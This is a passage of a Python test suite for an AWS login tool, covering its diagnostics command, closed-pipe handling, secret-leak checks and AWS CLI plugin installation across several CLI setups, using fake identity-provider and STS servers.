        self.assertEqual(len(self.idp.requests), 1)
        self.assertIsNone(self.idp.requests[0]["cookie"])
        self.assertEqual(len(self.sts.requests), 1)     # its Date header, for the clock

    def test_an_untrusted_certificate_names_the_configure_command(self):
        del os.environ["AWS_CA_BUNDLE"]
        run = self.doctor()
        self.assertEqual(run.code, aws_login.NetworkError.exit_code, run)
        line = self.line(run, "tls")
        self.assertTrue(line.startswith("FAIL"), line)
        self.assertIn("run `python3 %s configure --ca-bundle PATH`" % SCRIPT, line)
        self.assertEqual(len(run.stderr.splitlines()), 1, run.stderr)
        self.assertEqual(self.idp.requests, [])

    def test_a_wrong_endpoint_says_404(self):
        self.configure(ecp_endpoint_url=self.idp.base_url + "/idp/wrong")
        run = self.doctor()
        self.assertEqual(run.code, 5, run)
        line = self.line(run, "ecp")
        self.assertTrue(line.startswith("FAIL"), line)
        self.assertIn("HTTP 404", line)
        self.assertTrue(self.line(run, "tls").startswith("ok"))

    def test_keys_in_the_environment_shadow_the_profile(self):
        run = self.doctor({"AWS_ACCESS_KEY_ID": "AKIAEXAMPLEEXAMPLE",
                           "AWS_SECRET_ACCESS_KEY": "very-secret-key"})
        self.assertEqual(run.code, 3, run)
        line = self.line(run, "AWS_ACCESS_KEY_ID")
        self.assertTrue(line.startswith("FAIL"), line)
        self.assertIn("unset AWS_ACCESS_KEY_ID", line)
        self.assertNotIn("very-secret-key", run.stdout + run.stderr)

    def test_a_credential_process_file_that_moved(self):
        copy = os.path.join(self.home, "old", "aws_login.py")
        os.makedirs(os.path.dirname(copy))
        shutil.copy(SCRIPT, copy)
        run = self.tool(["configure", "--credential-process", "true"], terminal=False,
                        argv_prefix=[sys.executable, copy])
        self.assertEqual(run.code, 0, run)
        self.assertIn(copy, self.read(os.environ["AWS_CONFIG_FILE"]))
        self.assertTrue(self.doctor().stdout)       # the line runs the copy: it holds
        shutil.rmtree(os.path.dirname(copy))
        run = self.doctor()
        self.assertEqual(run.code, 3, run)
        line = self.line(run, "credential_process")
        self.assertTrue(line.startswith("FAIL"), line)
        self.assertIn(copy, line)
        self.assertIn("configure --credential-process true", line)

    def test_a_clock_ten_minutes_off_from_sts(self):
        late = time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(time.time() - 600))
        # the fake answers as usual, with STS's clock ten minutes behind ours
        self.sts.override = lambda handler: setattr(handler, "date_time_string",
                                                    lambda *a: late)
        run = self.doctor()
        self.assertEqual(run.code, aws_login.STSError.exit_code, run)
        lines = [l for l in run.stdout.splitlines() if l.split()[1] == "clock"]
        self.assertTrue(lines[0].startswith("ok"), lines)     # the IdP's
        self.assertRegex(lines[1], r"^FAIL .* 60\ds ahead of STS's")

    def test_an_invalid_option_and_a_refused_mark(self):
        self.configure(duration="5")
        self.write(os.path.join(self.home, ".aws-login", "refused", "default.keyring"),
                   "# aws_login: the IdP refused this stored password; `login` asks for it\n")
        run = self.doctor()
        self.assertEqual(run.code, 3, run)      # the first failing kind: the settings
        self.assertIn("duration", self.line(run, "settings"))
        self.assertTrue(self.line(run, "refused").startswith("FAIL"))
        self.assertEqual(self.idp.requests, [])     # no IdP checks on broken settings


def run_into_closed_pipe(command, env=None, stderr_too=False):
    """Run ``command`` with its standard output (and with ``stderr_too`` its
    standard error, as `2>&1 | head -0` does) a pipe whose reader has gone:
    every write to it fails.  Returns (exit code, stderr)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        proc = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=write_end,
                                stderr=write_end if stderr_too else subprocess.PIPE, env=env,
                                start_new_session=True)
    finally:
        os.close(write_end)
    try:
        err = proc.communicate(timeout=30)[1] or b""
    except subprocess.TimeoutExpired:
        proc.kill()
        raise AssertionError("the tool hung writing into a closed pipe")
    return proc.returncode, err.decode("utf-8", "replace")


class BrokenPipeTest(LoginTestCase):
    """A closed pipe (`status | head -1`, `env | head -0`) ends a command quietly
    with 141, as a shell shows for a tool SIGPIPE ended: no error line, no
    "Exception ignored" at the interpreter's exit, every file whole."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.empty = os.path.join(self.home, "empty-path")
        os.mkdir(self.empty)

    def assert_quiet(self, args, env=None, command=None, logs_in=False, start=BYTECODE_START):
        full = dict(os.environ, PATH=self.empty)    # plugin status finds no `aws`
        full.update(env or {})
        code, err = run_into_closed_pipe(command or start + list(args), full)
        self.assertEqual((code, re.sub("(?m)^Logged in as .*\n", "", err)),
                         (aws_login._EXIT_PIPE_CLOSED, ""), (args, err))
        self.assertEqual("Logged in as" in err, logs_in, err)

    def test_every_command_that_prints_ends_quietly(self):
        self.assert_logged_in(self.tool(["login"], terminal=False))
        federation = FakeFederation().start()
        self.addCleanup(federation.stop)
        for args in (["status", "--output", "json"], ["whoami"], ["env"], ["console", "--print"],
                     ["plugin", "status"], ["login", "--help"], ["--version"]):
            self.assert_quiet(args, {"AWS_LOGIN_FEDERATION_URL": federation.url})
        self.assert_quiet(["status"], start=README_START)     # as __main__, as the README runs it
        self.assertEqual(len(federation.sessions), 1)
        self.assertEqual([r["form"]["Action"] for r in self.sts.requests],
                         ["AssumeRoleWithSAML", "GetCallerIdentity"])

    def test_a_login_before_the_output_is_written_whole(self):
        # env logs in first (nothing stored yet), then finds its reader gone
        self.assert_quiet(["env"], logs_in=True)
        self.assertEqual(len(self.sts.issued), 1)
        self.assertEqual(self.credentials()["aws_access_key_id"],
                         self.sts.issued[0]["AccessKeyId"])
        self.assertEqual(sorted(os.listdir(os.path.dirname(self.credentials_file))),
                         ["credentials"])

    def test_credential_process_ends_quietly_on_every_path(self):
        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code,
                         0)
        import configparser
        import shlex
        parser = configparser.RawConfigParser()
        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
        configured = shlex.split(parser.get("default", "credential_process"))
        self.assert_quiet(None, command=configured)       # renews: no cache yet
        self.assertEqual(len(self.sts.issued), 1)
        self.assert_quiet(None, command=configured)       # the cache, before the file loads
        self.assert_quiet(["credential-process"])         # the cache, in main()
        self.assertEqual(len(self.sts.issued), 1)
        cache = json.loads(self.read(os.path.join(self.home, ".aws-login", "cache",
                                                  "default")).split("\n")[3])
        self.assertEqual(cache["AccessKeyId"], self.sts.issued[0]["AccessKeyId"])

    def test_with_stderr_closed_too_an_error_keeps_its_exit_code(self):
        # `2>&1 | head -0`: the error line cannot be written; its code stands
        env = dict(os.environ)
        self.assertEqual(run_into_closed_pipe(BYTECODE_START + ["whoami"], env, True),
                         (aws_login.NotLoggedInError.exit_code, ""))
        self.assertEqual(run_into_closed_pipe(BYTECODE_START + ["login", "--frce"], env, True),
                         (aws_login.UsageError.exit_code, ""))
        # a login that cannot say it logged in: done, and quiet
        self.assertEqual(run_into_closed_pipe(BYTECODE_START + ["login"], env, True),
                         (aws_login._EXIT_PIPE_CLOSED, ""))
        self.assertEqual(self.credentials()["aws_access_key_id"],
                         self.sts.issued[0]["AccessKeyId"])

    def test_only_a_pipe_nobody_reads_is_a_reader_gone(self):
        # a BrokenPipeError from anything else (a socket, a child's pipe) stays
        # the unexpected error it is
        read_end, write_end = os.pipe()
        pipe = os.fdopen(write_end, "w")
        self.addCleanup(pipe.close)
        self.assertFalse(aws_login._reader_gone(pipe))
        os.close(read_end)
        self.assertTrue(aws_login._reader_gone(pipe))
        for path in (os.path.join(self.home, "file"), os.devnull):
            with open(path, "w") as f:
                self.assertFalse(aws_login._reader_gone(f))

    def test_the_exit_code_is_in_the_readme(self):
        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
            self.assertRegex(f.read(), r"\|\s*%d\s*\|" % aws_login._EXIT_PIPE_CLOSED)


class SecretsTest(LoginTestCase):
    """A whole life with --debug; no secret anywhere it should not be."""
    SLOW = True         # waits on real time: the runner starts it first

    def test_no_secret_leaks(self):
        self.idp.require_factor = {"passcode"}
        self.idp.expected_passcode = "987654"
        self.sts.clock = lambda: time.time() - 3600 + 8
        self.configure(username="alice", factor="passcode", refresh="true")
        self.configure("proc", username="alice", factor="passcode", passcode="987654",
                       password=PASSWORD)
        outputs = []
        run = self.tool(["--debug", "login"], [("Password: ", PASSWORD), ("Code: ", "987654")])
        self.assertEqual(run.code, 0, run)
        outputs.append(run)
        pid = int(re.search(r"pid (\d+)", run.stderr).group(1))
        cookies = list(self.idp.sessions)
        first = self.credentials()["aws_access_key_id"]
        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 10))
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            proc_text = f.read()
        with open("/proc/%d/environ" % pid, "rb") as f:
            proc_text += f.read()
        outputs.append(self.tool(["--debug", "--profile", "proc", "configure",
                                  "--credential-process"], terminal=False))
        outputs.append(self.tool(["--debug", "--profile", "proc", "credential-process"],
                                 terminal=False))
        self.assertEqual(outputs[-1].code, 0, outputs[-1])
        cookies += list(self.idp.sessions)
        outputs.append(self.tool(["--debug", "logout", "--forget"], terminal=False))
        outputs.append(self.tool(["--debug", "--profile", "proc", "logout"], terminal=False))
        secrets = [PASSWORD, "987654", base64.b64encode(("alice:" + PASSWORD).encode()).decode()]
        secrets += [c["SecretAccessKey"] for c in self.sts.issued]
        secrets += [c["SessionToken"] for c in self.sts.issued] + cookies
        self.assertGreaterEqual(len(self.sts.issued), 3)
        shown = "".join(r.stdout[:0] + r.stderr + r.tty for r in outputs)
        holders = {os.path.realpath(self.credentials_file), os.path.realpath(self.config_file)}
        files = {}
        for directory, _, names in os.walk(self.home):
            for name in names:
                path = os.path.realpath(os.path.join(directory, name))
                if (path in holders or "/cookies/" in path or "/cache/" in path
                        or "/fake-keyring/" in path or "/pki/" in path):
                    self.assertEqual(os.stat(path).st_mode & 0o077, 0, path) \
                        if "/pki/" not in path else None
                    continue
                with open(path, "rb") as f:
                    files[path] = f.read().decode("utf-8", "replace")
        self.assertTrue(any(p.endswith("default.log") for p in files), sorted(files))
        for secret in secrets:
            self.assertNotIn(secret, shown)
            self.assertNotIn(secret.encode(), proc_text)
            for path, text in files.items():
                self.assertNotIn(secret, text, path)


# ---------------------------------------------------------------------------
# The AWS CLI plugin: its hook, and enable, disable, status
# ---------------------------------------------------------------------------

class AwsCliPluginTest(LoginTestCase):
    """The hook, with a stand-in for awscli's BasicCommand (the interop suite runs
    the real AWS CLI v1)."""

    def setUp(self):
        LoginTestCase.setUp(self)
        fake = type(sys)("awscli.customizations.commands")

        class BasicCommand(object):
            def __init__(self, session):
                self._session = session
        fake.BasicCommand = BasicCommand
        for name, module in (("awscli", type(sys)("awscli")),
                             ("awscli.customizations", type(sys)("awscli.customizations")),
                             ("awscli.customizations.commands", fake)):
            self.assertNotIn(name, sys.modules)
            sys.modules[name] = module
            self.addCleanup(sys.modules.pop, name)

    def test_hook_registers_login_logout_and_configure(self):
        registered = {}

        class Cli(object):
            def register(self, event, handler):
                registered[event] = handler
        aws_login.awscli_initialize(Cli())
        main_table, login_table = {}, {}
        registered["building-command-table.main"](main_table, session="s")
        registered["building-command-table.login"](login_table, session="s")
        self.assertEqual(sorted(main_table), ["login", "logout"])
        self.assertEqual(sorted(login_table), ["configure"])
        self.configure("plug", username="alice", factor="auto", password=PASSWORD)
        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
        globals_ = type("Globals", (), {"profile": "plug"})()
        saved = sys.stderr
        sys.stderr = io.StringIO()
        try:
            code = main_table["login"]._run_main(args, globals_)
        finally:
            sys.stderr = saved
        self.assertEqual(code, 0)
        self.assertEqual(self.credentials("plug")["aws_access_key_id"],
                         self.sts.issued[-1]["AccessKeyId"])

    def run_main(self, command, args, globals_):
        saved = sys.stderr
        sys.stderr = io.StringIO()
        try:
            return command._run_main(args, globals_), sys.stderr.getvalue()
        finally:
            sys.stderr = saved

    def tables(self):
        registered = {}
        aws_login.awscli_initialize(type("Cli", (), {
            "register": lambda self, event, handler: registered.__setitem__(event, handler)})())
        main_table, login_table = {}, {}
        registered["building-command-table.main"](main_table, session="s")
        registered["building-command-table.login"](login_table, session="s")
        return main_table, login_table

    def test_aws_login_configure_offers_the_option_tables_plugin_options(self):
        _, login_table = self.tables()
        command = login_table["configure"]
        self.assertEqual([(a["name"], a["help_text"]) for a in command.ARG_TABLE],
                         [(aws_login._flag(o)[2:], o.help) for o in aws_login._OPTIONS
                          if o.plugin])
        args = type("Args", (), dict((a["name"].replace("-", "_"), None)
                                     for a in command.ARG_TABLE))()
        args.ecp_endpoint_url, args.refresh, args.chain_external_id = self.idp.url, "0", "ext-1"
        code, err = self.run_main(command, args, type("Globals", (), {"profile": "plug"})())
        self.assertEqual(code, 0, err)
        profile = aws_login.read_profile("plug")
        self.assertEqual((profile.ecp_endpoint_url, profile.refresh, profile.chain_external_id),
                         (self.idp.url, False, "ext-1"))

    def test_the_aws_cli_global_options_reach_the_tool(self):
        main_table, login_table = self.tables()
        ca = self.pems["ca"]
        del os.environ["AWS_CA_BUNDLE"]     # the IdP's CA comes from `aws --ca-bundle` only
        self.configure("plug", username="alice", factor="auto", password=PASSWORD)
        login_args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
        bare = type("Globals", (), {"profile": "plug", "ca_bundle": None, "region": None,
                                    "verify_ssl": True})()
        code, err = self.run_main(main_table["login"], login_args, bare)
        self.assertEqual(code, 8, err)
        self.assertIn("not trusted", err)
        with_ca = type("Globals", (), {"profile": "plug", "ca_bundle": ca,
                                       "region": "eu-west-1", "verify_ssl": True})()
        code, err = self.run_main(main_table["login"], login_args, with_ca)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.credentials("plug")["aws_access_key_id"],
                         self.sts.issued[-1]["AccessKeyId"])
        # configure keeps them as the profile's settings, with no prompt
        names = ("ecp_endpoint_url", "username", "enable_keyring", "factor", "role_arn",
                 "duration")
        configure_args = type("Args", (), dict((n, None) for n in names))()
        unverified = type("Globals", (), {"profile": "plug", "ca_bundle": ca,
                                          "region": "eu-west-1", "verify_ssl": False})()
        code, err = self.run_main(login_table["configure"], configure_args, unverified)
        self.assertEqual(code, 0, err)
        profile = aws_login.read_profile("plug")
        self.assertEqual((profile.ca_bundle, profile.region, profile.verify_ssl_certificate),
                         (ca, "eu-west-1", False))
        self.assertEqual(aws_login._awscli_global_options("logout", unverified), [])
        self.assertEqual(aws_login._awscli_global_options("login", unverified),
                         ["--ca-bundle", ca, "--region", "eu-west-1", "--no-verify-ssl"])

    def test_hints_in_the_plugin_name_aws_login(self):
        main_table, _ = self.tables()
        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
        code, err = self.run_main(main_table["login"], args,
                                  type("Globals", (), {"profile": "nowhere"})())
        self.assertEqual(code, 3)
        self.assertEqual(err, "aws_login: error: profile 'nowhere' is not configured: run "
                              "`aws --profile nowhere login configure`\n")


def keep_to_own_aws_clis(test):
    """Every place `plugin enable` looks for AWS CLIs (PATH, pyenv, pipx) inside the
    test's home: the machine's own `aws` (a pyenv shim here) is never found,
    run or given a module."""
    os.environ["PATH"] = os.path.join(test.home, "bin")
    os.environ["PYENV_ROOT"] = os.path.join(test.home, ".pyenv")
    for name in ("PIPX_HOME", "PIPX_BIN_DIR", "XDG_DATA_HOME", "PYENV_VERSION"):
        os.environ.pop(name, None)


class PluginManagementTest(HomeTestCase):
    """`plugin enable/disable/status` against a stand-in AWS CLI that loads its
    plugins as the AWS CLI does (an import failure breaks every command), run by
    the Python of a throwaway venv (the interop suite uses the real AWS CLI v1)."""

    FAKE_AWS = (
        "import configparser, os, sys\n"
        "VERSION = %r\n"
        "parser = configparser.RawConfigParser()\n"
        "parser.read(os.environ.get('AWS_CONFIG_FILE') or os.path.expanduser('~/.aws/config'))\n"
        "plugins = dict(parser.items('plugins')) if parser.has_section('plugins') else {}\n"
        # awscli/plugin.py: v2 loads plugins only when cli_legacy_plugin_path is
        # set, and puts it on sys.path; v1 imports every value, that one too
        "if VERSION.startswith('2'):\n"
        "    path = plugins.pop('cli_legacy_plugin_path', None)\n"
        "    sys.path.extend(path.split(os.pathsep) if path is not None else [])\n"
        "    plugins = plugins if path is not None else {}\n"
        "if os.environ.get('FAKE_AWS_BROKEN'):\n"
        "    sys.path[:] = [p for p in sys.path if 'site-packages' not in p]\n"
        "modules = [__import__(m) for m in plugins.values()]\n"
        "if sys.argv[1:] == ['--version']:\n"
        "    print('aws-cli/%%s Python/3 Linux botocore/1' %% VERSION); sys.exit(0)\n"
        "if sys.argv[1:] == ['login'] and os.environ.get('AWS_LOGIN_PLUGIN_PROBE'):\n"
        "    for m in modules:\n"
        "        if hasattr(m, 'awscli_initialize'):\n"
        "            print(os.environ['AWS_LOGIN_PLUGIN_PROBE'], m.__file__); sys.exit(0)\n"
        "print('aws: error: argument command: Invalid choice'); sys.exit(252)\n")

    def setUp(self):
        HomeTestCase.setUp(self)
        keep_to_own_aws_clis(self)
        self.venv = os.path.join(self.home, "venv")
        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", self.venv])
        self.python = os.path.join(self.venv, "bin", "python")
        self.aws_config = os.environ["AWS_CONFIG_FILE"]

    def fake_aws(self, version="1.45.11", shebang=None):
        path = os.path.join(self.venv, "bin", "aws")
        with open(path, "w") as f:
            f.write((shebang or "#!%s\n" % self.python) + self.FAKE_AWS % version)
        os.chmod(path, 0o755)
        return path

    def site_packages(self):
        out = subprocess.check_output([self.python, "-c", "import sysconfig;print("
                                       "sysconfig.get_paths()['purelib'])"])
        return out.decode().strip()

    def plugin(self, *words, **kw):
        return run_tool(["plugin"] + list(words), env=dict(os.environ, **kw.get("env", {})),
                        terminal=False)

    CONFIGS = (None, "", "# mine\r\n[default]\r\nregion = eu-west-1\r\n",
               "[default]\nregion = x", "[plugins]\nlogin = awscli_login\n",
               "[profile a]\noutput = json\n\n[plugins]\nlogin = awscli_login\n")

    @slow
    def test_enable_proves_and_disable_restores_the_config_byte_for_byte(self):
        aws = self.fake_aws()
        for before in self.CONFIGS:
            if before is None:
                if os.path.exists(self.aws_config):
                    os.remove(self.aws_config)
            else:
                self.write(self.aws_config, before)
            run = self.plugin("enable", "--aws", aws)
            self.assertEqual(run.code, 0, run)
            module = os.path.join(self.site_packages(), "aws_login.py")
            with open(module, "rb") as f, open(SCRIPT, "rb") as g:
                self.assertEqual(f.read(), g.read())
            import configparser
            parser = configparser.RawConfigParser()
            parser.read(self.aws_config)
            self.assertEqual(parser.get("plugins", "login"), "aws_login")
            probe = subprocess.run([aws, "login"], env=dict(os.environ,
                                                            AWS_LOGIN_PLUGIN_PROBE="x"),
                                   stdout=subprocess.PIPE)
            self.assertEqual(probe.stdout.decode().split(), ["x", module])
            status = self.plugin("status", "--aws", aws)
            self.assertIn("plugin: on", status.stdout)
            self.assertIn(module, status.stdout)
            self.assertNotIn("built-in", status.stdout)
            run = self.plugin("disable", env={"PATH": "/nonexistent"})   # never runs aws
            self.assertEqual(run.code, 0, run)
            if before is None:
                self.assertFalse(os.path.exists(self.aws_config))
            else:
                self.assertEqual(self.read(self.aws_config), before, repr(before))
            self.assertFalse(os.path.exists(module))
            self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login",
                                                         "plugin.json")))
            self.assertIn("plugin: off", self.plugin("status", "--aws", aws).stdout)

    def test_an_aws_cli_that_cannot_load_it_is_left_working(self):
        aws = self.fake_aws()
        before = "[default]\nregion = eu-west-1\n"
        self.write(self.aws_config, before)
        run = self.plugin("enable", "--aws", aws, env={"FAKE_AWS_BROKEN": "1"})
        self.assertEqual(run.code, 3, run)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
        self.assertIn("undone", run.stderr)
        self.assertNotIn("Traceback", run.stderr)
        self.assertEqual(self.read(self.aws_config), before)
        self.assertFalse(os.path.exists(os.path.join(self.site_packages(), "aws_login.py")))
        done = subprocess.run([aws, "--version"], env=dict(os.environ, FAKE_AWS_BROKEN="1"),
                              stdout=subprocess.PIPE)
        self.assertEqual(done.returncode, 0)

    def test_aws_cli_v2_gets_a_plugin_path_and_a_warning_of_its_own_login(self):
        aws = self.fake_aws(version="2.33.1")
        run = self.plugin("enable", "--aws", aws, "--replace-builtin")    # its own login goes
        self.assertEqual(run.code, 0, run)
        folder = os.path.join(self.home, ".aws-login", "plugin")
        self.assertTrue(os.path.isfile(os.path.join(folder, "aws_login.py")))
        import configparser
        parser = configparser.RawConfigParser()
        parser.read(self.aws_config)
        self.assertEqual(parser.get("plugins", "cli_legacy_plugin_path"), folder)
        status = self.plugin("status", "--aws", aws)
        self.assertIn("built-in `aws login`", status.stdout)
        self.assertEqual(self.plugin("disable").code, 0)
        self.assertFalse(os.path.exists(self.aws_config))

    def test_a_manual_plugin_line_is_removed_without_a_record(self):
        self.write(self.aws_config, "[default]\nregion = x\n\n[plugins]\nlogin = aws_login\n")
        run = self.plugin("disable")
        self.assertEqual(run.code, 0, run)
        self.assertIn("removed", run.stderr.lower())
        self.assertEqual(self.read(self.aws_config), "[default]\nregion = x\n\n[plugins]\n")

    def test_the_python_of_an_aws_script_is_found(self):
        py = self.python
        for shebang in ("#!%s\n" % py, "#!/usr/bin/env %s\n" % py,
                        "#!/bin/sh\n'''exec' \"%s\" \"$0\" \"$@\"\n' '''\n" % py):
            aws = self.fake_aws(shebang=shebang)
            self.assertEqual(aws_login._cli_python(aws), py, shebang)
        aws = self.fake_aws(shebang="#!/bin/bash\nexec something\n")
        with self.assertRaises(aws_login.ConfigError) as caught:
            aws_login._cli_python(aws)
        self.assertIn("cannot tell which Python runs %s" % aws, str(caught.exception))


# What pyenv puts on PATH for every command a version installs (pyenv's own
# shim text), and a stand-in for the pyenv it runs: `pyenv exec aws` runs the
# `aws` of the version named in $PYENV_ROOT/version.
PYENV_SHIM = ('#!/usr/bin/env bash\nset -e\n[ -n "$PYENV_DEBUG" ] && set -x\n\n'
              'program="${0##*/}"\n\nexport PYENV_ROOT="%s"\n'
              'exec "%s/libexec/pyenv" exec "$program" "$@"\n')
FAKE_PYENV = ('#!/bin/sh\nshift\nprogram=$1\nshift\nread version < "$PYENV_ROOT/version"\n'
              'exec "$PYENV_ROOT/versions/$version/bin/$program" "$@"\n')


class PluginCliTestCase(HomeTestCase):
    """AWS CLIs for `plugin enable`: PluginManagementTest's stand-in, each in a
    venv of its own (its own site-packages), on a PATH, under pyenv or pipx."""

    def setUp(self):
        HomeTestCase.setUp(self)
        keep_to_own_aws_clis(self)
        self.bin = os.environ["PATH"]
        os.makedirs(self.bin)
        os.symlink(shutil.which("bash", path=self.saved_env.get("PATH")) or "/bin/bash",
                   os.path.join(self.bin, "bash"))     # for the pyenv shim's #! line
        self.aws_config = os.environ["AWS_CONFIG_FILE"]

    def make_cli(self, venv, version="1.45.11", shebang=None):
        """An AWS CLI in its own venv at ``venv``: (its aws, its site-packages)."""
        venv = os.path.join(self.home, venv)
        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", venv])
        python = os.path.join(venv, "bin", "python")
        aws = os.path.join(venv, "bin", "aws")
        with open(aws, "w") as f:
            f.write((shebang or "#!%s\n" % python) + PluginManagementTest.FAKE_AWS % version)
        os.chmod(aws, 0o755)
        site = subprocess.check_output([python, "-c", "import sysconfig;print("
                                        "sysconfig.get_paths()['purelib'])"]).decode().strip()
        return aws, site

    def on_path(self, *folders):
        os.environ["PATH"] = os.pathsep.join(list(folders) + [self.bin])

    def pyenv(self, *versions):
        """A pyenv root with an AWS CLI v1 in each version, the first selected,
        and its shim folder: [(aws, site-packages)], shims.  The root is not
        $PYENV_ROOT: only its shim on PATH says where it is."""
        root = os.path.join(self.home, "opt", "pyenv")
        made = [self.make_cli(os.path.join(root, "versions", v)) for v in versions]
        for path, text in ((os.path.join(root, "shims", "aws"), PYENV_SHIM % (root, root)),
                           (os.path.join(root, "libexec", "pyenv"), FAKE_PYENV),
                           (os.path.join(root, "version"), versions[0] + "\n")):
            self.write(path, text, mode=0o755)
        return made, os.path.join(root, "shims")

    def plugin(self, *words):
        return run_tool(["plugin"] + list(words), env=dict(os.environ), terminal=False)

    def aws(self, aws, *words, **env):
        done = subprocess.run([aws] + list(words), env=dict(os.environ, **env),
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=30)
        return done.returncode, done.stdout.decode("utf-8", "replace")

    def assert_loads_the_plugin(self, aws, site):
        code, out = self.aws(aws, "--version")
        self.assertEqual(code, 0, "%s: %s" % (aws, out))
        code, out = self.aws(aws, "login", AWS_LOGIN_PLUGIN_PROBE="probe-1")
        self.assertEqual((code, out.split()), (0, ["probe-1", os.path.join(site, "aws_login.py")]),
                         aws)

    def assert_works_without_it(self, aws):
        code, out = self.aws(aws, "--version")
        self.assertEqual(code, 0, "%s: %s" % (aws, out))
        self.assertNotIn("probe-1", self.aws(aws, "login", AWS_LOGIN_PLUGIN_PROBE="probe-1")[1])


class PluginNeighboursTest(PluginCliTestCase):
    """`plugin enable` beside the user's other AWS CLIs (every `aws` on PATH,
    pyenv's versions, pipx's venvs): [plugins] in ~/.aws/config is read by all
    of them, and an AWS CLI v1 imports each plugin by name, so each v1 gets the
    module or nothing changes; `status` runs each."""

    @slow
    def test_enable_gives_the_module_to_every_aws_cli_v1_the_user_runs(self):
        target = self.make_cli("target")
        first = self.make_cli("first")                  # on PATH
        shadowed = self.make_cli("shadowed")            # on PATH, after the first
        v2, _ = self.make_cli("v2", version="2.31.0")   # on PATH: loads no plugin
        pyenvs, shims = self.pyenv("3.99.1", "3.99.2")  # the shim runs 3.99.1's
        pipx = self.make_cli(os.path.join(".local", "pipx", "venvs", "awscli"))
        pipx_new = self.make_cli(os.path.join(".local", "share", "pipx", "venvs", "awscli"))
        self.on_path(shims, os.path.dirname(first[0]), os.path.dirname(shadowed[0]),
                     os.path.dirname(v2))
        before = "# mine\n[default]\nregion = eu-west-1\n"
        self.write(self.aws_config, before)
        run = self.plugin("enable", "--aws", target[0])
        self.assertEqual(run.code, 0, run)
        for aws, site in [target, first, shadowed, pipx, pipx_new] + pyenvs:
            self.assert_loads_the_plugin(aws, site)
        self.assert_loads_the_plugin(os.path.join(shims, "aws"), pyenvs[0][1])
        self.assert_works_without_it(v2)
        self.assertNotIn("cli_legacy_plugin_path", self.read(self.aws_config))
        run = self.plugin("disable")
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.read(self.aws_config), before)
        for aws, site in [target, first, shadowed, pipx, pipx_new] + pyenvs:
            self.assertFalse(os.path.exists(os.path.join(site, "aws_login.py")), site)
            self.assert_works_without_it(aws)

    def test_a_v1_that_cannot_be_given_the_module_stops_enable_with_nothing_changed(self):
        target = self.make_cli("target")
        hidden_aws, hidden_site = self.make_cli("hidden")
        wrapper = os.path.join(self.home, "wrapper")       # a script that runs an AWS CLI
        self.write(os.path.join(wrapper, "aws"), "#!/bin/sh\nexec %s \"$@\"\n" % hidden_aws,
                   mode=0o755)
        self.on_path(wrapper)
        before = "[default]\nregion = eu-west-1\n"
        self.write(self.aws_config, before)
        run = self.plugin("enable", "--aws", target[0])
        self.assertEqual(run.code, 3, run)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
        self.assertIn(os.path.join(wrapper, "aws"), run.stderr)
        self.assertIn("nothing changed", run.stderr.lower())
        self.assertEqual(self.read(self.aws_config), before)
        for site in (target[1], hidden_site):
            self.assertFalse(os.path.exists(os.path.join(site, "aws_login.py")))
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "plugin.json")))
        self.assert_works_without_it(os.path.join(wrapper, "aws"))
        # one whose Python cannot import what is put in its site-packages (-S):
        # proven broken, so everything is undone
        nosite = self.make_cli("nosite", shebang="#!%s -S\n" % os.path.join(
            self.home, "nosite", "bin", "python"))
        self.on_path(os.path.dirname(nosite[0]))
        run = self.plugin("enable", "--aws", target[0])
        self.assertEqual(run.code, 3, run)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
        self.assertIn(nosite[0], run.stderr)
        self.assertIn("undone", run.stderr)
        self.assertEqual(self.read(self.aws_config), before)
        for site in (target[1], nosite[1]):
            self.assertFalse(os.path.exists(os.path.join(site, "aws_login.py")))
        self.assert_works_without_it(nosite[0])

    def test_an_aws_cli_v2_beside_a_v1_is_refused_its_plugin_path(self):
        # v2 loads plugins only from cli_legacy_plugin_path, and v1 imports that
        # line's value as a module: every v1 would fail
        v2, _ = self.make_cli("v2", version="2.33.1")
        v1 = self.make_cli("v1")
        self.on_path(os.path.dirname(v1[0]))
        before = "[default]\nregion = eu-west-1\n"
        self.write(self.aws_config, before)
        run = self.plugin("enable", "--aws", v2)
        self.assertEqual(run.code, 3, run)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
        self.assertIn(v1[0], run.stderr)
        self.assertIn("cli_legacy_plugin_path", run.stderr)
        self.assertEqual(self.read(self.aws_config), before)
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "plugin")))
        self.assert_works_without_it(v1[0])
        self.assert_works_without_it(v2)

    def test_status_runs_each_aws_cli_and_says_how_it_fares(self):
        target = self.make_cli("target")
        other = self.make_cli("other")
        v2, _ = self.make_cli("v2", version="2.31.0")
        self.on_path(os.path.dirname(other[0]), os.path.dirname(v2))
        self.assertEqual(self.plugin("enable", "--aws", target[0]).code, 0)
        lines = self.plugin("status", "--aws", target[0]).stdout.splitlines()

        def line_of(aws):
            found = [line for line in lines if line.strip().startswith(aws + " ")]
            self.assertEqual(len(found), 1, (aws, lines))
            return found[0]
        for aws, site in (target, other):
            self.assertIn("plugin loads (%s)" % os.path.join(site, "aws_login.py"), line_of(aws))
        self.assertIn("aws-cli/2.31.0", line_of(v2))
        self.assertIn("loads no plugins", line_of(v2))
        os.remove(os.path.join(other[1], "aws_login.py"))     # its module went away
